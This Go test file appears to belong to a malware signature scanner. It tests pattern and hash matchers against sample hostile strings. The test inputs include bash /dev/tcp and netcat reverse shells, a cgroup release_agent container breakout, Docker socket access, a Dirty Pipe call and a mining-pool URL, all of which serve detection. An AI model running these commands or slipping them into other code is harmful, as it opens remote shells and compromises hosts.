package signature

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

func sumOf(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

func TestPatternMatcher(t *testing.T) {
	m := NewPatternMatcher(0)

	tests := []struct {
		name      string
		content   string
		wantMatch bool
		wantRule  string
	}{
		{"dev tcp reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true, "pattern:reverse_shell"},
		{"netcat exec", "nc -e /bin/sh 10.0.0.1 4444", true, "pattern:reverse_shell"},
		{"release agent", "echo $p > /tmp/cg/release_agent", true, "pattern:container_breakout"},
		{"docker socket", "curl --unix-socket /var/run/docker.sock http://x/containers", true, "pattern:host_socket_access"},
		{"dirty pipe", "./dirtypipe /etc/passwd", true, "pattern:kernel_exploit"},
		{"miner pool", `"url": "stratum+tcp://pool.example:3333"`, true, "pattern:crypto_miner"},
		{"ptrace attach", "ptrace(PTRACE_ATTACH, pid, 0, 0)", true, "pattern:process_injection"},
		{"metadata only", "curl http://169.254.169.254/latest/meta-data/", false, "pattern:metadata_service"},
		{"setcap only", "setcap cap_net_raw+ep ./ping", false, "pattern:capability_abuse"},
		{"clean", "print('hello world')", false, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ok, rules := m.Match([]byte(tt.content))
			if ok != tt.wantMatch {
				t.Errorf("Match = %v, want %v (rules %v)", ok, tt.wantMatch, rules)
			}
			if tt.wantRule == "" {
				if len(rules) != 0 {
					t.Errorf("rules = %v, want none", rules)
				}
				return
			}
			found := false
			for _, r := range rules {
				if r == tt.wantRule {
					found = true
				}
			}
			if !found {
				t.Errorf("rule %q not in %v", tt.wantRule, rules)
			}
		})
	}
}

func TestPatternMatcher_ScanLimit(t *testing.T) {
	m := NewPatternMatcher(16)
	content := []byte("0123456789abcdefgh nc -e /bin/sh host 1")
	if ok, _ := m.Match(content); ok {
		t.Error("Match saw bytes past the scan limit")
	}
}

func TestHashMatcher(t *testing.T) {
	h := NewHashMatcher()
	if err := h.Add(sumOf("evil"), "Family.X"); err != nil {
		t.Fatalf("Add: %v", err)
	}
	if err := h.Add("not-a-hash", ""); err == nil {
		t.Error("Add accepted an invalid digest")
	}

	ok, rules := h.Match([]byte("evil"))
	if !ok || !reflect.DeepEqual(rules, []string{"hash:Family.X"}) {
		t.Errorf("Match(evil) = %v %v, want true [hash:Family.X]", ok, rules)
	}
	if ok, _ := h.Match([]byte("good")); ok {
		t.Error("Match(good) = true, want false")
	}
}

func TestLoadHashFile(t *testing.T) {
	dir := t.TempDir()

	text := filepath.Join(dir, "bad.txt")
	body := "# known bad\n" + sumOf("a") + " Trojan A\n\n" + sumOf("b") + "\n"
	if err := os.WriteFile(text, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	js := filepath.Join(dir, "bad.json")
	if err := os.WriteFile(js, []byte(`{"known_bad": {"`+sumOf("c")+`": "Miner C"}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	broken := filepath.Join(dir, "broken.txt")
	if err := os.WriteFile(broken, []byte("zz\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name    string
		path    string
		content string
		want    []string
		wantErr bool
	}{
		{"text with name", text, "a", []string{"hash:Trojan A"}, false},
		{"text without name", text, "b", []string{"hash:known_bad_hash"}, false},
		{"json", js, "c", []string{"hash:Miner C"}, false},
		{"invalid digest", broken, "", nil, true},
		{"missing file", filepath.Join(dir, "nope"), "", nil, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, err := LoadHashFile(tt.path)
			if (err != nil) != tt.wantErr {
				t.Fatalf("LoadHashFile error = %v, wantErr %v", err, tt.wantErr)
			}
			if tt.wantErr {
				return
			}
			ok, rules := h.Match([]byte(tt.content))
			if !ok || !reflect.DeepEqual(rules, tt.want) {
				t.Errorf("Match = %v %v, want true %v", ok, rules, tt.want)
			}
		})
	}
}

func TestMulti(t *testing.T) {
	h := NewHashMatcher()
	_ = h.Add(sumOf("nc -e /bin/sh x 1"), "Shell")
	m := Multi{h, NewPatternMatcher(0), nil, None{}}

	ok, rules := m.Match([]byte("nc -e /bin/sh x 1"))
	if !ok {
		t.Fatal("Multi.Match = false, want true")
	}
	want := []string{"hash:Shell", "pattern:reverse_shell"}
	if !reflect.DeepEqual(rules, want) {
		t.Errorf("rules = %v, want %v", rules, want)
	}

	if ok, rules := (Multi{None{}}).Match([]byte("x")); ok || rules != nil {
		t.Errorf("Multi{None}.Match = %v %v, want false nil", ok, rules)
	}
}
